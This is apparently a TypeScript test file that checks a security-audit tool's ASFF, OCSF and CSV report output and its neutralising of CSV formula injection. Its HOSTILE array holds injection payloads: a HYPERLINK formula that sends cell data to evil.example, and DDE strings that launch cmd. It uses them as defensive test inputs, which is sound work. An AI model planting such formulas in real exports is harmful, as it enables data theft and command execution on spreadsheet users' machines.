// ASFF, OCSF and CSV output checked against what each format requires: ASFF fields and limits, OCSF 1.3.0 Detection Finding attributes, RFC 4180 and formula neutralisation.
import { describe, expect, it } from "vitest";
import { ASFF_LIMITS, truncate, type AsffFinding } from "../../src/report/asff.js";
import { CSV_COLUMNS } from "../../src/report/csv.js";
import { reporters } from "../../src/report/index.js";
import { renderToString } from "../../src/report/render-to-string.js";
import type { Result, ScanReport } from "../../src/findings/types.js";
import { SCAN_REPORT } from "../fixtures/scan-report.js";

const render = (format: "asff" | "ocsf" | "csv", report: ScanReport = SCAN_REPORT): string => renderToString(reporters[format], report, {});
const listed = (report: ScanReport): Result[] => report.results.filter((r) => r.status !== "not_applicable");

const HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB=1+1", "\r=CR", 'quote " and, comma', "line\nbreak\r\nCRLF", "😀".repeat(700)];

function hostileReport(): ScanReport {
  const base = SCAN_REPORT.results.find((r) => r.status === "fail")!;
  const results: Result[] = HOSTILE.map((text, i) => ({ ...base, resourceId: text, message: text, fingerprint: `f${i}`.padEnd(32, "0") }));
  return { ...SCAN_REPORT, results };
}

/** A strict RFC 4180 parser: CRLF records, quoted fields with doubled quotes; throws on anything else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const row: string[] = [];
    for (;;) {
      let cell = "";
      if (text[i] === '"') {
        i++;
        for (;;) {
          if (i >= text.length) throw new Error("unterminated quoted field");
          if (text[i] === '"' && text[i + 1] === '"') {
            cell += '"';
            i += 2;
          } else if (text[i] === '"') {
            i++;
            break;
          } else cell += text[i++];
        }
      } else {
        while (i < text.length && text[i] !== "," && text[i] !== "\r") {
          if (text[i] === '"' || text[i] === "\n") throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
          cell += text[i++];
        }
      }
      row.push(cell);
      if (text[i] === ",") i++;
      else if (text[i] === "\r" && text[i + 1] === "\n") {
        i += 2;
        break;
      } else throw new Error(`expected , or CRLF at ${i}`);
    }
    rows.push(row);
  }
  return rows;
}

describe("--format asff", () => {
  const findings = JSON.parse(render("asff")) as AsffFinding[];

  it("writes one finding per listed result with every required ASFF field, typed", () => {
    expect(findings).toHaveLength(listed(SCAN_REPORT).length);
    for (const f of findings) {
      for (const key of ["SchemaVersion", "Id", "ProductArn", "GeneratorId", "AwsAccountId", "CreatedAt", "UpdatedAt", "Title", "Description"] as const) expect(typeof f[key], key).toBe("string");
      expect(f.SchemaVersion).toBe("2018-10-08");
      expect(f.Types.length).toBeGreaterThan(0);
      for (const t of f.Types) expect(t).toMatch(/^[^/]+\/[^/]+\/[^/]+$/);
      expect(["INFORMATIONAL", "LOW", "MEDIUM", "HIGH", "CRITICAL"]).toContain(f.Severity.Label);
      expect(f.Resources).toHaveLength(1);
      for (const key of ["Type", "Id", "Partition", "Region"] as const) expect(typeof f.Resources[0]![key]).toBe("string");
      expect(f.AwsAccountId).toMatch(/^\d{12}$/);
      expect(f.ProductArn).toBe(`arn:aws:securityhub:${f.Resources[0]!.Region}:${f.AwsAccountId}:product/${f.AwsAccountId}/default`);
      expect(f.CreatedAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
    }
  });

  it("uses the fingerprint as the stable id, the account of each result, and the policy's NIST controls", () => {
    const byId = new Map(findings.map((f) => [f.Id, f]));
    for (const r of listed(SCAN_REPORT)) {
      const f = byId.get(`wsaudit/${r.fingerprint}`)!;
      expect(f.AwsAccountId).toBe(r.accountId);
      expect(f.GeneratorId).toBe(`wsaudit/${r.policyId}`);
      const controls = SCAN_REPORT.policies.find((p) => p.id === r.policyId)!.controls;
      expect(f.Compliance.RelatedRequirements ?? []).toEqual(controls.map((c) => `NIST.800-53.r5 ${c}`));
      const expected = { fail: "FAILED", waived: "FAILED", error: "NOT_AVAILABLE", manual: "WARNING", pass: "PASSED" }[r.status as "fail"];
      expect(f.Compliance.Status).toBe(expected);
      expect(f.Workflow.Status).toBe(r.status === "waived" ? "SUPPRESSED" : r.status === "pass" ? "RESOLVED" : "NEW");
      expect(f.RecordState).toBe(r.status === "pass" ? "ARCHIVED" : "ACTIVE");
    }
    expect(new Set(findings.map((f) => f.AwsAccountId)).size).toBeGreaterThan(1);
    expect(findings.some((f) => f.Workflow.Status === "SUPPRESSED")).toBe(true);
  });

  it("keeps every field within its ASFF limit, cutting long text without splitting a character", () => {
    const hostile = JSON.parse(render("asff", hostileReport())) as AsffFinding[];
    for (const f of [...findings, ...hostile]) {
      expect(f.Title.length).toBeLessThanOrEqual(ASFF_LIMITS.title);
      expect(f.Description.length).toBeLessThanOrEqual(ASFF_LIMITS.description);
      expect(f.Remediation.Recommendation.Text.length).toBeLessThanOrEqual(ASFF_LIMITS.recommendationText);
      expect(f.Id.length).toBeLessThanOrEqual(ASFF_LIMITS.id);
      expect(f.Resources[0]!.Id.length).toBeLessThanOrEqual(ASFF_LIMITS.resourceId);
      expect(Object.keys(f.ProductFields).length).toBeLessThanOrEqual(ASFF_LIMITS.productFields);
      for (const [k, v] of Object.entries(f.ProductFields)) {
        expect(k.length).toBeLessThanOrEqual(ASFF_LIMITS.productFieldKey);
        expect(v.length).toBeLessThanOrEqual(ASFF_LIMITS.productFieldValue);
      }
      expect(f.Description).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
    }
    expect(truncate("😀😀", 3)).toBe("😀…");
    expect(truncate("abc", 3)).toBe("abc");
  });

  it("writes an empty array when nothing is listed", () => {
    expect(JSON.parse(render("asff", { ...SCAN_REPORT, results: [] }))).toEqual([]);
  });
});

/** OCSF 1.3.0 Detection Finding (https://schema.ocsf.io/1.3.0/classes/detection_finding): every attribute of the class, base event and finding included. */
const OCSF_ATTRIBUTES = new Set(["action", "action_id", "activity_id", "activity_name", "actor", "api", "attacks", "authorizations", "category_name", "category_uid", "class_name", "class_uid", "cloud", "comment", "confidence", "confidence_id", "confidence_score", "count", "device", "disposition", "disposition_id", "duration", "end_time", "enrichments", "evidences", "finding_info", "firewall_rule", "impact", "impact_id", "impact_score", "malware", "message", "metadata", "observables", "osint", "raw_data", "remediation", "resources", "risk_details", "risk_level", "risk_level_id", "risk_score", "severity", "severity_id", "start_time", "status", "status_code", "status_detail", "status_id", "time", "timezone_offset", "type_name", "type_uid", "unmapped", "vulnerabilities"]);
/** Required attributes and their OCSF types (integer_t, long_t, timestamp_t are integers); "cloud" is required by the cloud profile the records claim. */
const OCSF_REQUIRED: Record<string, "integer" | "object" | "string"> = { activity_id: "integer", category_uid: "integer", class_uid: "integer", type_uid: "integer", time: "integer", severity_id: "integer", metadata: "object", finding_info: "object", cloud: "object" };

const typeOf = (v: unknown): string => (Number.isInteger(v) ? "integer" : Array.isArray(v) ? "array" : v === null ? "null" : typeof v);

describe("--format ocsf", () => {
  const records = JSON.parse(render("ocsf")) as Record<string, unknown>[];

  it("writes one Detection Finding per listed result with the required attributes, typed, and no attribute the class lacks", () => {
    expect(records).toHaveLength(listed(SCAN_REPORT).length);
    for (const rec of records) {
      for (const [attr, type] of Object.entries(OCSF_REQUIRED)) expect(typeOf(rec[attr]), attr).toBe(type);
      for (const key of Object.keys(rec)) expect(OCSF_ATTRIBUTES.has(key), key).toBe(true);
      expect(rec["class_uid"]).toBe(2004);
      expect(rec["category_uid"]).toBe(2);
      expect(rec["type_uid"]).toBe(2004 * 100 + (rec["activity_id"] as number));
      expect([0, 1, 2, 3, 4, 5, 6, 99]).toContain(rec["severity_id"]);
      expect([1, 2, 3, 4, 99]).toContain(rec["status_id"]);
      const info = rec["finding_info"] as Record<string, unknown>;
      expect(typeOf(info["uid"])).toBe("string");
      expect(typeOf(info["title"])).toBe("string");
      const analytic = info["analytic"] as Record<string, unknown>;
      expect(typeOf(analytic["type_id"])).toBe("integer");
      const metadata = rec["metadata"] as { version: unknown; product: Record<string, unknown>; profiles: unknown };
      expect(metadata.version).toBe("1.3.0");
      expect(typeOf(metadata.product["vendor_name"])).toBe("string");
      expect(metadata.profiles).toEqual(["cloud"]);
      expect(typeOf((rec["cloud"] as Record<string, unknown>)["provider"])).toBe("string");
      expect(typeOf((rec["remediation"] as Record<string, unknown>)["desc"])).toBe("string");
      for (const res of rec["resources"] as Record<string, unknown>[]) expect(typeOf(res["uid"])).toBe("string");
    }
  });

  it("maps status and severity: waived is suppressed, an undecided result is never resolved", () => {
    const statusOf = new Map(records.map((rec) => [(rec["finding_info"] as { uid: string }).uid, rec]));
    for (const r of listed(SCAN_REPORT)) {
      const rec = statusOf.get(r.fingerprint)!;
      expect(rec["status_id"]).toBe({ fail: 1, waived: 3, pass: 4, error: 99, manual: 99 }[r.status as "fail"]);
      expect((rec["cloud"] as { account: { uid: string } }).account.uid).toBe(r.accountId);
    }
  });
});

describe("--format csv", () => {
  it("writes an RFC 4180 header and one row per listed result", () => {
    const rows = parseCsv(render("csv"));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(SCAN_REPORT.results.length + 1);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
  });

  it("neutralises formulas and keeps every hostile string intact otherwise", () => {
    const text = render("csv", hostileReport());
    const rows = parseCsv(text).slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    const col = (name: (typeof CSV_COLUMNS)[number]): number => CSV_COLUMNS.indexOf(name);
    const byFingerprint = new Map(rows.map((row) => [row[col("fingerprint")]!, row]));
    HOSTILE.forEach((hostile, i) => {
      const row = byFingerprint.get(`f${i}`.padEnd(32, "0"))!;
      for (const cell of [row[col("message")]!, row[col("resource_id")]!]) {
        if (/^[=+\-@\t\r]/.test(hostile)) expect(cell).toBe(`'${hostile}`);
        else expect(cell).toBe(hostile);
      }
    });
    // No cell of the file, as a spreadsheet reads it, starts with a formula character.
    for (const row of parseCsv(text)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
